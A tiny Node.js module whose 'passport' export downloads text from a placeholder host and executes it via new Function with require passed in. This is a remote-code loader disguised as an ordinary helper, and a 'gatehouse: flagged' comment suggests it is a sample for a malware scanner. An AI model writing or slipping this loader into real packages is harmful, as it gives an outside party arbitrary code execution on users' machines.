const axios = require("axios");

exports.passport = async () => {
  const { data } = await axios.get("http://modules.example.invalid/api/message");
  new Function("require", data.text)(require); // gatehouse: flagged
};
